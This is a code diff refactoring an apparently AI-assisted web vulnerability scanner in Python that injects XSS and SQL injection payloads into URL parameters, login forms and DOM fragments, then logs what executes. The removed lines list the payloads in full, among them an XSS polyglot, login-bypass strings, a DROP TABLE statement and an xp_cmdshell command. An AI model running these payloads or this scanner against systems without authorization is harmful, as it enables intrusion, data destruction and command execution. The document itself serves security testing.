-            "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */onerror=alert('XSS') )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert('XSS')//\\x3e",
-        ]
+        self.static_payloads = _XSS_STATIC_PAYLOADS
     
-    def test_url(self, url: str) -> List[Dict]:
+    def test_url(self, url: str, scenarios_future: Future = None) -> List[Dict]:
         """Comprehensive XSS testing with detailed logging"""
         print(f"\n{'='*80}")
         print(f"🚫 ADVANCED XSS TESTING: {url}")
@@ -419,7 +1806,13 @@ class AdvancedXSSTester:
         
         try:
             self.driver.get(url)
-            time.sleep(2)
+            self.main_tester.wait_for_page_ready()
+            
+            # Generate AI scenarios for every parameter and form in one call
+            if scenarios_future is not None:
+                scenarios_future.result()
+            else:
+                self.llm.generate_security_scenarios_batch(self.collect_element_infos(url), "XSS")
             
             # 1. Test URL parameters
             print("\n  📍 Testing URL parameters with AI-generated scenarios...")
@@ -447,133 +1840,218 @@ class AdvancedXSSTester:
         self.results = vulnerabilities
         return vulnerabilities
     
+    def collect_element_infos(self, url: str) -> List[Dict]:
+        """Element descriptions for every URL parameter and form on the loaded page"""
+        infos = url_parameter_infos(parse_qs(urlparse(url).query, keep_blank_values=True))
+        for form in self.driver.find_elements(By.TAG_NAME, 'form'):
+            input_count = (len(form.find_elements(By.TAG_NAME, 'input')) +
+                           len(form.find_elements(By.TAG_NAME, 'textarea')))
+            infos.append(self._form_info(form, url, input_count))
+        return infos
+    
+    def _form_info(self, form, url: str, input_count: int) -> Dict:
+        """Element description of a form for scenario generation"""
+        return {
+            'type': 'form',
+            'action': form.get_attribute('action') or url,
+            'method': form.get_attribute('method') or 'GET',
+            'input_count': input_count
+        }
+    
     def test_url_parameters_advanced(self, url: str) -> List[Dict]:
         """Advanced URL parameter testing with full logging"""
         vulnerabilities = []
         parsed = urlparse(url)
-        params = parse_qs(parsed.query)
+        params = parse_qs(parsed.query, keep_blank_values=True)
         
         if not params:
             print("    ℹ️  No URL parameters found")
             return vulnerabilities
         
-        for param_name, param_values in params.items():
+        baseline_length = self.get_baseline_length(url)
+        
+        # Generate AI scenarios for all parameters in one call
+        element_infos = url_parameter_infos(params)
+        scenarios_by_param = self.llm.generate_security_scenarios_batch(element_infos, "XSS")
+        
+        # Cheap marker probe per parameter; values that never reach the page can't carry XSS
+        templates = url_parameter_templates(url)
+        pool = self.main_tester.driver_pool
+        with ThreadPoolExecutor(max_workers=pool.size) as executor:
+            reflected = dict(zip(templates, executor.map(self._is_reflected, templates.values())))
+        
+        for param_idx, param_name in enumerate(params):
             print(f"\n    Testing parameter: {param_name}")
             
-            # Generate AI scenarios for this parameter
-            element_info = {
-                'type': 'url_parameter',
-                'name': param_name,
-                'current_value': param_values[0]
-            }
+            template = templates[param_name]
+            if not reflected[param_name]:
+                print(f"    ⏭️  Value is not reflected, skipping payloads")
+                self.non_reflective_params.add(param_name)
+                self.main_tester.log_test_attempt({
+                    'test_type': 'XSS_URL_PARAMETER',
+                    'scenario_id': f"XSS_REFLECTION_{param_name}",
+                    'target': url,
+                    'parameter': param_name,
+                    'status': 'SKIPPED_NON_REFLECTIVE'
+                })
+                continue
             
-            ai_scenarios = self.llm.generate_security_scenarios(element_info, "XSS")
-            all_scenarios = ai_scenarios + [
-                {"payload": p, "scenario_id": f"XSS_STATIC_{i:03d}", "type": "XSS"}
-                for i, p in enumerate(self.static_payloads[:5], 1)
-            ]
+            ai_scenarios = scenarios_by_param.get(param_idx, [])
+            all_scenarios = self.main_tester.dedupe_scenarios(ai_scenarios + list(_XSS_PARAM_STATIC_SCENARIOS))
             
             print(f"    Generated {len(all_scenarios)} test scenarios ({len(ai_scenarios)} AI + {len(all_scenarios)-len(ai_scenarios)} static)")
             
-            for scenario in all_scenarios:
-                payload = scenario.get('payload')
-                scenario_id = scenario.get('scenario_id', 'UNKNOWN')
-                
-                # Log test attempt START
-                test_log = {
-                    'test_type': 'XSS_URL_PARAMETER',
-                    'scenario_id': scenario_id,
-                    'target': url,
-                    'parameter': param_name,
-                    'payload': payload,
-                    'scenario_details': scenario,
-                    'status': 'testing'
-                }
+            # Build every test URL up front, then probe them on pooled drivers
+            tasks = [(scenario, fill_url_template(template, scenario.get('payload')))
+                     for scenario in all_scenarios]
+            
+            with ThreadPoolExecutor(max_workers=pool.size) as executor:
+                futures = [
+                    executor.submit(self._probe_url, test_url, scenario.get('payload'),
+                                    scenario.get('scenario_id', 'UNKNOWN'), f"XSS in {param_name}")
+                    for scenario, test_url in tasks
+                ]
                 
-                try:
-                    # Create test URL
-                    test_params = params.copy()
-                    test_params[param_name] = [payload]
-                    test_url = f"{parsed.scheme}://{parsed.netloc}{parsed.path}?{urlencode(test_params, doseq=True)}"
-                    
-                    test_log['test_url'] = test_url
-                    
-                    print(f"      [{self.main_tester.test_counter + 1:04d}] Testing: {scenario_id} - {payload[:40]}...")
-                    
-                    # Load page
-                    start_time = time.time()
-                    self.driver.get(test_url)
-                    execution_time = time.time() - start_time
-                    time.sleep(1)
-                    
-                    test_log['execution_time'] = execution_time
-                    test_log['page_source_length'] = len(self.driver.page_source)
-                    
-                    # Get console errors
-                    console_errors = self.main_tester.get_console_errors()
-                    test_log['console_errors'] = console_errors
+                for (scenario, test_url), future in zip(tasks, futures):
+                    payload = scenario.get('payload')
+                    scenario_id = scenario.get('scenario_id', 'UNKNOWN')
                     
-                    # Check if payload executed
-                    is_vulnerable = self.check_xss_execution(payload)
-                    test_log['is_vulnerable'] = is_vulnerable
+                    # Log test attempt START
+                    test_log = {
+                        'test_type': 'XSS_URL_PARAMETER',
+                        'scenario_id': scenario_id,
+                        'target': url,
+                        'parameter': param_name,
+                        'payload': payload,
+                        'scenario_details': scenario,
+                        'status': 'testing',
+                        'test_url': test_url
+                    }
                     
-                    if is_vulnerable:
-                        # Take screenshot
-                        screenshot = self.main_tester.take_screenshot(scenario_id, f"XSS in {param_name}")
-                        test_log['screenshot'] = screenshot
-                        test_log['status'] = 'VULNERABLE'
+                    try:
+                        print(f"      [{self.main_tester.test_counter + 1:04d}] Testing: {scenario_id} - {payload[:40]}...")
                         
-                        # Get exact location
-                        test_log['exact_location'] = f"URL parameter: {param_name}"
+                        probe = future.result()
+                        execution_time = probe['execution_time']
                         
-                        # AI analysis
-                        ai_analysis = self.llm.analyze_vulnerability(test_log)
-                        test_log['ai_analysis'] = ai_analysis
+                        test_log['execution_time'] = execution_time
                         
-                        vuln = {
-                            'type': 'XSS - URL Parameter',
-                            'severity': scenario.get('severity', 'HIGH'),
-                            'scenario_id': scenario_id,
-                            'location': f"Parameter: {param_name}",
-                            'exact_xpath': f"URL: {test_url}",
-                            'url': test_url,
-                            'payload': payload,
-                            'execution_time': execution_time,
-                            'description': f"XSS vulnerability in URL parameter '{param_name}'",
-                            'proof_of_concept': test_url,
-                            'screenshot': screenshot,
-                            'console_errors': console_errors,
-                            'attack_vector': scenario.get('attack_vector', 'Direct injection'),
-                            'expected_behavior': scenario.get('expected_behavior', 'Should sanitize input'),
-                            'ai_analysis': ai_analysis,
-                            'remediation': 'Sanitize and encode all user input before rendering in HTML context. Implement Content-Security-Policy header.',
-                            'test_details': test_log
-                        }
-                        vulnerabilities.append(vuln)
-                        self.main_tester.vulnerabilities_found += 1
+                        console_errors = probe['console_errors']
+                        test_log['console_errors'] = console_errors
                         
-                        print(f"        🚨 VULNERABLE! (Total: {self.main_tester.vulnerabilities_found})")
-                    else:
-                        test_log['status'] = 'SAFE'
-                        print(f"        ✅ Safe")
-                
-                except Exception as e:
-                    test_log['status'] = 'ERROR'
-                    test_log['error'] = str(e)
-                    print(f"        ❌ Error: {e}")
-                
-                # Log this test attempt
-                self.main_tester.log_test_attempt(test_log)
+                        is_vulnerable = probe['is_vulnerable']
+                        test_log['is_vulnerable'] = is_vulnerable
+                        
+                        if is_vulnerable:
+                            screenshot = probe['screenshot']
+                            test_log['screenshot'] = screenshot
+                            test_log['status'] = 'VULNERABLE'
+                            test_log['page_source_length'] = probe['page_source_length']
+                            test_log['baseline_page_length'] = baseline_length
+                            
+                            # Get exact location
+                            test_log['exact_location'] = f"URL parameter: {param_name}"
+                            
+                            # AI analysis
+                            ai_analysis = self.main_tester.analyze_vulnerability_async(test_log)
+                            test_log['ai_analysis'] = ai_analysis
+                            
+                            vuln = {
+                                'type': 'XSS - URL Parameter',
+                                'severity': scenario.get('severity', 'HIGH'),
+                                'scenario_id': scenario_id,
+                                'location': f"Parameter: {param_name}",
+                                'exact_xpath': f"URL: {test_url}",
+                                'url': test_url,
+                                'payload': payload,
+                                'execution_time': execution_time,
+                                'description': f"XSS vulnerability in URL parameter '{param_name}'",
+                                'proof_of_concept': test_url,
+                                'screenshot': screenshot,
+                                'console_errors': console_errors,
+                                'attack_vector': scenario.get('attack_vector', 'Direct injection'),
+                                'expected_behavior': scenario.get('expected_behavior', 'Should sanitize input'),
+                                'ai_analysis': ai_analysis,
+                                'remediation': 'Sanitize and encode all user input before rendering in HTML context. Implement Content-Security-Policy header.',
+                                'test_details': test_log
+                            }
+                            vulnerabilities.append(vuln)
+                            total = self.main_tester.count_vulnerability()
+                            
+                            print(f"        🚨 VULNERABLE! (Total: {total})")
+                        else:
+                            test_log['status'] = 'SAFE'
+                            print(f"        ✅ Safe")
+                    
+                    except Exception as e:
+                        test_log['status'] = 'ERROR'
+                        test_log['error'] = str(e)
+                        print(f"        ❌ Error: {e}")
+                    
+                    # Log this test attempt
+                    self.main_tester.log_test_attempt(test_log)
         
         return vulnerabilities
     
+    def _is_reflected(self, template: Tuple[str, str]) -> bool:
+        """Load the URL with a random marker as the parameter value and look for it in the page"""
+        marker = f"xr{secrets.token_hex(6)}"
+        try:
+            with self.main_tester.driver_pool.driver() as driver:
+                driver.get(fill_url_template(template, marker))
+                self.main_tester.wait_for_page_ready(driver=driver)
+                return bool(driver.execute_script(_REFLECTION_JS, marker))
+        except Exception:
+            # Can't tell, so test it fully
+            return True
+    
+    def _probe_url(self, test_url: str, payload: str, scenario_id: str, description: str) -> Dict:
+        """Load a test URL on a pooled driver and check whether the payload executed"""
+        with self.main_tester.driver_pool.driver() as driver:
+            start_time = time.perf_counter_ns()
+            driver.get(test_url)
+            execution_time = elapsed_seconds(start_time)
+            self.main_tester.wait_for_page_ready(driver=driver)
+            
+            is_vulnerable = self.check_xss_execution(payload, driver)
+            
+            probe = {
+                'execution_time': execution_time,
+                'console_errors': self.main_tester.get_console_errors(driver),
+                'is_vulnerable': is_vulnerable,
+                'page_source_length': None,
+                'screenshot': None
+            }
+            
+            if is_vulnerable:
+                # Only the length is needed, so avoid shipping the whole DOM back
+                probe['page_source_length'] = driver.execute_script(
+                    "return document.documentElement.outerHTML.length")
+                probe['screenshot'] = self.main_tester.take_screenshot(scenario_id, description, driver)
+            
+            return probe
+    
+    def get_baseline_length(self, url: str) -> int:
+        """Length of the unmodified page, fetched once per scheme/host/path"""
+        parsed = urlparse(url)
+        key = (parsed.scheme, parsed.netloc, parsed.path)
+        if key not in self._baseline_cache:
+            try:
+                if self.driver.current_url != url:
+                    self.driver.get(url)
+                self._baseline_cache[key] = self.driver.execute_script(
+                    "return document.documentElement.outerHTML.length")
+            except:
+                self._baseline_cache[key] = None
+        return self._baseline_cache[key]
+    
     def test_forms_advanced(self, url: str) -> List[Dict]:
         """Advanced form testing with detailed logging"""
         vulnerabilities = []
         
         try:
             self.driver.get(url)
-            time.sleep(2)
+            self.main_tester.wait_for_page_ready()
             
             forms = self.driver.find_elements(By.TAG_NAME, 'form')
             
@@ -586,28 +2064,20 @@ class AdvancedXSSTester:
             for idx, form in enumerate(forms, 1):
                 print(f"\n    Testing form #{idx}")
                 
-                # Get form details
-                form_action = form.get_attribute('action') or url
-                form_method = form.get_attribute('method') or 'GET'
-                form_xpath = self.main_tester.get_element_xpath(form)
-                
                 inputs = form.find_elements(By.TAG_NAME, 'input')
                 textareas = form.find_elements(By.TAG_NAME, 'textarea')
                 all_inputs = inputs + textareas
                 
-                # Generate AI scenarios for form
-                form_info = {
-                    'type': 'form',
-                    'action': form_action,
-                    'method': form_method,
-                    'input_count': len(all_inputs)
-                }
+                # Get form details
+                form_info = self._form_info(form, url, len(all_inputs))
+                form_action = form_info['action']
+                form_method = form_info['method']
+                form_xpath, *input_xpaths = self.main_tester.get_element_xpaths([form] + all_inputs)
                 
+                # Generate AI scenarios for form
                 ai_scenarios = self.llm.generate_security_scenarios(form_info, "XSS")
-                all_scenarios = ai_scenarios + [
-                    {"payload": p, "scenario_id": f"XSS_FORM_{idx}_{i:03d}", "type": "XSS"}
-                    for i, p in enumerate(self.static_payloads[:3], 1)
-                ]
+                all_scenarios = self.main_tester.dedupe_scenarios(
+                    ai_scenarios + list(static_scenarios(f"XSS_FORM_{idx}", "XSS", self.static_payloads[:3])))
                 
                 for scenario in all_scenarios:
                     payload = scenario.get('payload')
@@ -628,32 +2098,20 @@ class AdvancedXSSTester:
                     try:
                         print(f"      [{self.main_tester.test_counter + 1:04d}] Testing: {scenario_id}")
                         
-                        # Fill form
-                        filled_inputs = []
-                        for inp in all_inputs:
-                            input_type = inp.get_attribute('type')
-                            input_name = inp.get_attribute('name')
-                            
-                            if input_type not in ['submit', 'button', 'hidden', 'file']:
-                                try:
-                                    inp.clear()
-                                    inp.send_keys(payload)
-                                    filled_inputs.append({
-                                        'name': input_name,
-                                        'type': input_type,
-                                        'xpath': self.main_tester.get_element_xpath(inp)
-                                    })
-                                except:
-                                    pass
+                        # Fill all inputs in one browser call
+                        filled_inputs = [
+                            {'name': name, 'type': input_type, 'xpath': input_xpaths[i]}
+                            for i, name, input_type in self.driver.execute_script(_FILL_INPUTS_JS, all_inputs, payload)
+                        ]
                         
                         test_log['filled_inputs'] = filled_inputs
                         
                         # Submit
-                        start_time = time.time()
-                        submit_button = form.find_element(By.CSS_SELECTOR, 'button[type="submit"], input[type="submit"]')
-                        submit_button.click()
-                        time.sleep(2)
-                        execution_time = time.time() - start_time
+                        pre_url = self.driver.current_url
+                        start_time = time.perf_counter_ns()
+                        self.driver.execute_script(_SUBMIT_FORM_JS, form)
+                        self.main_tester.wait_for_page_ready()
+                        execution_time = elapsed_seconds(start_time)
                         
                         test_log['execution_time'] = execution_time
                         test_log['console_errors'] = self.main_tester.get_console_errors()
@@ -667,7 +2125,7 @@ class AdvancedXSSTester:
                             test_log['screenshot'] = screenshot
                             test_log['status'] = 'VULNERABLE'
                             
-                            ai_analysis = self.llm.analyze_vulnerability(test_log)
+                            ai_analysis = self.main_tester.analyze_vulnerability_async(test_log)
                             test_log['ai_analysis'] = ai_analysis
                             
                             vuln = {
@@ -691,16 +2149,15 @@ class AdvancedXSSTester:
                                 'test_details': test_log
                             }
                             vulnerabilities.append(vuln)
-                            self.main_tester.vulnerabilities_found += 1
+                            self.main_tester.count_vulnerability()
                             
                             print(f"        🚨 VULNERABLE!")
                         else:
                             test_log['status'] = 'SAFE'
                             print(f"        ✅ Safe")
                         
-                        # Return to form
-                        self.driver.get(url)
-                        time.sleep(1)
+                        # Return to form, reloading only if the submission navigated away
+                        form, all_inputs = self._restore_form(url, idx, form, all_inputs, pre_url)
                     
                     except Exception as e:
                         test_log['status'] = 'ERROR'
@@ -714,20 +2171,29 @@ class AdvancedXSSTester:
         
         return vulnerabilities
     
+    def _restore_form(self, url: str, idx: int, form, all_inputs, pre_url: str):
+        """Reset the form in place, or reload the page and locate it again"""
+        if self.driver.current_url == pre_url:
+            try:
+                self.driver.execute_script("HTMLFormElement.prototype.reset.call(arguments[0])", form)
+                return form, all_inputs
+            except StaleElementReferenceException:
+                pass
+        
+        self.driver.get(url)
+        self.main_tester.wait_for_page_ready()
+        form = self.driver.find_elements(By.TAG_NAME, 'form')[idx - 1]
+        all_inputs = form.find_elements(By.TAG_NAME, 'input') + form.find_elements(By.TAG_NAME, 'textarea')
+        return form, all_inputs
+    
     def test_dom_xss_advanced(self, url: str) -> List[Dict]:
         """Advanced DOM-based XSS testing"""
         vulnerabilities = []
         
-        dom_payloads = [
-            "#<script>alert('DOM-XSS')</script>",
-            "#<img src=x onerror=alert('DOM-XSS')>",
-            "#javascript:alert('DOM-XSS')"
-        ]
-        
-        for payload in dom_payloads:
+        for i, payload in enumerate(_XSS_DOM_PAYLOADS, 1):
             test_log = {
                 'test_type': 'XSS_DOM',
-                'scenario_id': f'XSS_DOM_{dom_payloads.index(payload)+1:03d}',
+                'scenario_id': f'XSS_DOM_{i:03d}',
                 'target': url,
                 'payload': payload
             }
@@ -738,10 +2204,10 @@ class AdvancedXSSTester:
                 
                 print(f"      [{self.main_tester.test_counter + 1:04d}] Testing DOM: {payload[:40]}")
                 
-                start_time = time.time()
+                start_time = time.perf_counter_ns()
                 self.driver.get(test_url)
-                execution_time = time.time() - start_time
-                time.sleep(1)
+                execution_time = elapsed_seconds(start_time)
+                self.main_tester.wait_for_page_ready()
                 
                 test_log['execution_time'] = execution_time
                 test_log['console_errors'] = self.main_tester.get_console_errors()
@@ -769,7 +2235,7 @@ class AdvancedXSSTester:
                         'test_details': test_log
                     }
                     vulnerabilities.append(vuln)
-                    self.main_tester.vulnerabilities_found += 1
+                    self.main_tester.count_vulnerability()
                     print(f"        🚨 VULNERABLE!")
                 else:
                     test_log['status'] = 'SAFE'
@@ -784,25 +2250,26 @@ class AdvancedXSSTester:
         
         return vulnerabilities
     
-    def check_xss_execution(self, payload: str) -> bool:
-        """Check if XSS payload executed"""
+    def check_xss_execution(self, payload: str, driver=None) -> bool:
+        """Check if XSS payload executed (reads and resets the injected sentinel)"""
+        driver = driver or self.driver
         try:
-            alert = self.driver.switch_to.alert
-            alert_text = alert.text
-            alert.accept()
+            return bool(driver.execute_script(
+                "var f = window.__xss_fired === true; window.__xss_fired = false; return f;"))
+        except UnexpectedAlertPresentException:
+            # A native dialog was open, so the sentinel was not installed
             return True
         except:
-            pass
-        
+            return self._accept_alert(driver)
+    
+    def _accept_alert(self, driver) -> bool:
+        """Accept an open JavaScript dialog, returning whether one was open"""
         try:
-            logs = self.driver.get_log('browser')
-            for log in logs:
-                if 'XSS' in str(log) or 'alert' in str(log):
-                    return True
+            alert = driver.switch_to.alert
+            alert.accept()
+            return True
         except:
-            pass
-        
-        return False
+            return False
 
 
 class AdvancedSQLInjectionTester:
@@ -815,47 +2282,31 @@ class AdvancedSQLInjectionTester:
         self.results = []
         
         # Enhanced SQL Injection payloads
-        self.static_payloads = [
-            # Classic
-            "' OR '1'='1",
-            "' OR '1'='1' --",
-            "' OR '1'='1' /*",
-            "admin' --",
-            "admin' #",
-            
-            # Union-based
-            "' UNION SELECT NULL--",
-            "' UNION SELECT NULL,NULL--",
-            "' UNION SELECT NULL,NULL,NULL--",
-            "' UNION ALL SELECT NULL,NULL,NULL--",
-            
-            # Boolean-based blind
-            "' AND '1'='1",
-            "' AND '1'='2",
-            "' AND SLEEP(5)--",
-            "' OR SLEEP(5)--",
-            
-            # Time-based blind
-            "'; WAITFOR DELAY '0:0:5'--",
-            "' OR pg_sleep(5)--",
-            "' OR BENCHMARK(10000000,MD5('A'))--",
-            
-            # Error-based
-            "' AND 1=CONVERT(int, (SELECT @@version))--",
-            "' AND 1=CAST((SELECT @@version) AS int)--",
-            
-            # Stacked queries
-            "'; DROP TABLE users--",
-            "'; EXEC xp_cmdshell('dir')--",
-            
-            # Advanced bypass
-            "admin'/**/OR/**/'1'='1",
-            "admin' /*!50000OR*/ '1'='1",
-            "admin'--+",
-            "admin'%23",
-        ]
+        self.static_payloads = _SQLI_STATIC_PAYLOADS
+        
+        # Search inputs located on each pooled driver, re-queried only once stale
+        self._search_inputs = {}  # (id(driver), url, idx) -> WebElement
     
-    def test_url(self, url: str) -> List[Dict]:
+    def collect_element_infos(self, url: str) -> List[Dict]:
+        """Element descriptions for every URL parameter, login form and search input on the loaded page"""
+        infos = url_parameter_infos(parse_qs(urlparse(url).query, keep_blank_values=True))
+        
+        for form in self.driver.find_elements(By.TAG_NAME, 'form'):
+            if not (form.find_elements(By.CSS_SELECTOR, _SQLI_USERNAME_SELECTOR) and
+                    form.find_elements(By.CSS_SELECTOR, 'input[type="password"]')):
+                continue
+            infos.append({
+                'type': 'login_form',
+                'action': form.get_attribute('action') or url,
+                'method': form.get_attribute('method') or 'POST'
+            })
+        
+        for search_input in self.driver.find_elements(By.CSS_SELECTOR, _SQLI_SEARCH_SELECTOR):
+            infos.append({'type': 'search_input', 'name': search_input.get_attribute('name')})
+        
+        return infos
+    
+    def test_url(self, url: str, scenarios_future: Future = None) -> List[Dict]:
         """Comprehensive SQL Injection testing with detailed logging"""
         print(f"\n{'='*80}")
         print(f"💉 ADVANCED SQL INJECTION TESTING: {url}")
@@ -865,7 +2316,13 @@ class AdvancedSQLInjectionTester:
         
         try:
             self.driver.get(url)
-            time.sleep(2)
+            self.main_tester.wait_for_page_ready()
+            
+            # Generate AI scenarios for every parameter, login form and search input in one call
+            if scenarios_future is not None:
+                scenarios_future.result()
+            else:
+                self.llm.generate_security_scenarios_batch(self.collect_element_infos(url), "SQL_INJECTION")
             
             # 1. Test URL parameters
             print("\n  📍 Testing URL parameters with AI scenarios...")
@@ -902,33 +2359,41 @@ class AdvancedSQLInjectionTester:
         """Advanced URL parameter SQL injection testing"""
         vulnerabilities = []
         parsed = urlparse(url)
-        params = parse_qs(parsed.query)
+        params = parse_qs(parsed.query, keep_blank_values=True)
         
         if not params:
             print("    ℹ️  No URL parameters found")
             return vulnerabilities
         
-        for param_name, param_values in params.items():
+        # Generate AI scenarios for all parameters in one call
+        element_infos = url_parameter_infos(params)
+        scenarios_by_param = self.llm.generate_security_scenarios_batch(element_infos, "SQL_INJECTION")
+        
+        for param_idx, (param_name, param_values) in enumerate(params.items()):
             print(f"\n    Testing parameter: {param_name}")
             
             original_value = param_values[0]
             
-            # Generate AI scenarios
-            element_info = {
-                'type': 'url_parameter',
-                'name': param_name,
-                'current_value': original_value
-            }
-            
-            ai_scenarios = self.llm.generate_security_scenarios(element_info, "SQL_INJECTION")
-            all_scenarios = ai_scenarios + [
-                {"payload": p, "scenario_id": f"SQLI_PARAM_{param_name}_{i:03d}", "type": "SQL_INJECTION"}
-                for i, p in enumerate(self.static_payloads[:8], 1)
-            ]
+            ai_scenarios = scenarios_by_param.get(param_idx, [])
+            all_scenarios = self.main_tester.dedupe_scenarios(
+                ai_scenarios + list(static_scenarios(f"SQLI_PARAM_{param_name}", "SQL_INJECTION", self.static_payloads[:8])))
             
             print(f"    Generated {len(all_scenarios)} test scenarios")
             
-            for scenario in all_scenarios:
+            template = url_parameter_templates(url)[param_name]
+            tasks = [(scenario, fill_url_template(template, original_value + scenario.get('payload')))
+                     for scenario in all_scenarios]
+            
+            # Probe every payload on pooled drivers; results are logged in order below
+            pool = self.main_tester.driver_pool
+            with ThreadPoolExecutor(max_workers=pool.size) as executor:
+                futures = [
+                    executor.submit(self._probe, self._navigate_to(test_url), scenario.get('payload'),
+                                    scenario.get('scenario_id', 'UNKNOWN'), f"SQLi in {param_name}")
+                    for scenario, test_url in tasks
+                ]
+            
+            for (scenario, test_url), future in zip(tasks, futures):
                 payload = scenario.get('payload')
                 scenario_id = scenario.get('scenario_id', 'UNKNOWN')
                 
@@ -943,30 +2408,24 @@ class AdvancedSQLInjectionTester:
                 }
                 
                 try:
-                    test_params = params.copy()
-                    test_params[param_name] = [original_value + payload]
-                    test_url = f"{parsed.scheme}://{parsed.netloc}{parsed.path}?{urlencode(test_params, doseq=True)}"
-                    
                     test_log['test_url'] = test_url
                     
                     print(f"      [{self.main_tester.test_counter + 1:04d}] Testing: {scenario_id} - {payload[:30]}...")
                     
-                    start_time = time.time()
-                    self.driver.get(test_url)
-                    load_time = time.time() - start_time
-                    time.sleep(0.5)
+                    probe = future.result()
+                    load_time = probe['execution_time']
                     
                     test_log['execution_time'] = load_time
-                    test_log['console_errors'] = self.main_tester.get_console_errors()
+                    test_log['console_errors'] = probe['console_errors']
                     
                     # Check for SQL Injection
-                    page_source = self.driver.page_source.lower()
-                    is_vulnerable = self.check_sql_injection(payload, load_time, page_source)
+                    page_source = probe['page_source']
+                    is_vulnerable = probe['is_vulnerable']
                     test_log['is_vulnerable'] = is_vulnerable
                     test_log['page_source_length'] = len(page_source)
                     
                     if is_vulnerable:
-                        screenshot = self.main_tester.take_screenshot(scenario_id, f"SQLi in {param_name}")
+                        screenshot = probe['screenshot']
                         test_log['screenshot'] = screenshot
                         test_log['status'] = 'VULNERABLE'
                         
@@ -974,7 +2433,7 @@ class AdvancedSQLInjectionTester:
                         sql_error_type = self.detect_sql_error_type(page_source)
                         test_log['sql_error_type'] = sql_error_type
                         
-                        ai_analysis = self.llm.analyze_vulnerability(test_log)
+                        ai_analysis = self.main_tester.analyze_vulnerability_async(test_log, ('SQLI_URL', param_name, sql_error_type))
                         test_log['ai_analysis'] = ai_analysis
                         
                         vuln = {
@@ -1001,7 +2460,7 @@ class AdvancedSQLInjectionTester:
                             'test_details': test_log
                         }
                         vulnerabilities.append(vuln)
-                        self.main_tester.vulnerabilities_found += 1
+                        self.main_tester.count_vulnerability()
                         
                         print(f"        🚨 VULNERABLE! Type: {sql_error_type}")
                     else:
@@ -1023,14 +2482,13 @@ class AdvancedSQLInjectionTester:
         
         try:
             self.driver.get(url)
-            time.sleep(2)
+            self.main_tester.wait_for_page_ready()
             
             forms = self.driver.find_elements(By.TAG_NAME, 'form')
             
             for idx, form in enumerate(forms, 1):
                 try:
-                    username_field = form.find_element(By.CSS_SELECTOR, 
-                        'input[name*="user"], input[name*="email"], input[type="email"], input[name*="login"]')
+                    username_field = form.find_element(By.CSS_SELECTOR, _SQLI_USERNAME_SELECTOR)
                     password_field = form.find_element(By.CSS_SELECTOR, 
                         'input[type="password"]')
                 except:
@@ -1040,9 +2498,8 @@ class AdvancedSQLInjectionTester:
                 
                 form_action = form.get_attribute('action') or url
                 form_method = form.get_attribute('method') or 'POST'
-                form_xpath = self.main_tester.get_element_xpath(form)
-                username_xpath = self.main_tester.get_element_xpath(username_field)
-                password_xpath = self.main_tester.get_element_xpath(password_field)
+                form_xpath, username_xpath, password_xpath = self.main_tester.get_element_xpaths(
+                    [form, username_field, password_field])
                 
                 # Generate AI scenarios
                 form_info = {
@@ -1052,10 +2509,8 @@ class AdvancedSQLInjectionTester:
                 }
                 
                 ai_scenarios = self.llm.generate_security_scenarios(form_info, "SQL_INJECTION")
-                all_scenarios = ai_scenarios + [
-                    {"payload": p, "scenario_id": f"SQLI_LOGIN_{idx}_{i:03d}", "type": "SQL_INJECTION"}
-                    for i, p in enumerate(self.static_payloads[:5], 1)
-                ]
+                all_scenarios = self.main_tester.dedupe_scenarios(
+                    ai_scenarios + list(static_scenarios(f"SQLI_LOGIN_{idx}", "SQL_INJECTION", self.static_payloads[:5])))
                 
                 for scenario in all_scenarios:
                     payload = scenario.get('payload')
@@ -1076,43 +2531,39 @@ class AdvancedSQLInjectionTester:
                     }
                     
                     try:
-                        self.driver.get(url)
-                        time.sleep(1)
-                        
-                        username_field = self.driver.find_element(By.CSS_SELECTOR, 
-                            'input[name*="user"], input[name*="email"], input[type="email"], input[name*="login"]')
-                        password_field = self.driver.find_element(By.CSS_SELECTOR, 
-                            'input[type="password"]')
+                        # Reuse the loaded form unless the last submit navigated away
+                        form = self._reset_or_reload_form(url, idx, form)
+                        username_field = form.find_element(By.CSS_SELECTOR, _SQLI_USERNAME_SELECTOR)
+                        password_field = form.find_element(By.CSS_SELECTOR, 'input[type="password"]')
                         
                         print(f"      [{self.main_tester.test_counter + 1:04d}] Testing: {scenario_id}")
                         
-                        username_field.clear()
-                        username_field.send_keys(payload)
-                        password_field.clear()
-                        password_field.send_keys('test_password_123')
+                        self.driver.execute_script(_SET_VALUES_JS, [username_field, password_field],
+                                                   [payload, 'test_password_123'])
                         
-                        start_time = time.time()
-                        submit_button = form.find_element(By.CSS_SELECTOR, 
-                            'button[type="submit"], input[type="submit"]')
-                        submit_button.click()
-                        time.sleep(2)
-                        execution_time = time.time() - start_time
+                        old_url = self.driver.current_url
+                        start_time = time.perf_counter_ns()
+                        self.driver.execute_script(_SUBMIT_FORM_JS, form)
+                        self.main_tester.wait_after_submit(old_url, submit_wait_timeout(payload))
+                        execution_time = elapsed_seconds(start_time)
                         
                         test_log['execution_time'] = execution_time
                         test_log['console_errors'] = self.main_tester.get_console_errors()
                         
                         # Check if authentication bypassed
                         current_url = self.driver.current_url
-                        page_source = self.driver.page_source.lower()
                         
-                        # Check for successful login indicators
-                        success_indicators = ['dashboard', 'welcome', 'logout', 'profile', 'account', 'logged in']
-                        is_bypassed = (current_url != url or 
-                                     any(indicator in page_source for indicator in success_indicators))
+                        # Check for successful login indicators; a redirect already counts, so the page is only read otherwise
+                        if current_url != url:
+                            success_found = []
+                        else:
+                            page_source = self.main_tester.get_page_source_lower()
+                            success_found = found_indicators(_LOGIN_SUCCESS_INDICATORS, _LOGIN_SUCCESS_RE, page_source)
+                        is_bypassed = current_url != url or bool(success_found)
                         
                         test_log['current_url'] = current_url
                         test_log['is_vulnerable'] = is_bypassed
-                        test_log['success_indicators_found'] = [ind for ind in success_indicators if ind in page_source]
+                        test_log['success_indicators_found'] = success_found
                         
                         if is_bypassed:
                             screenshot = self.main_tester.take_screenshot(scenario_id, 
@@ -1120,7 +2571,7 @@ class AdvancedSQLInjectionTester:
                             test_log['screenshot'] = screenshot
                             test_log['status'] = 'VULNERABLE'
                             
-                            ai_analysis = self.llm.analyze_vulnerability(test_log)
+                            ai_analysis = self.main_tester.analyze_vulnerability_async(test_log, ('SQLI_LOGIN', idx))
                             test_log['ai_analysis'] = ai_analysis
                             
                             vuln = {
@@ -1148,7 +2599,7 @@ class AdvancedSQLInjectionTester:
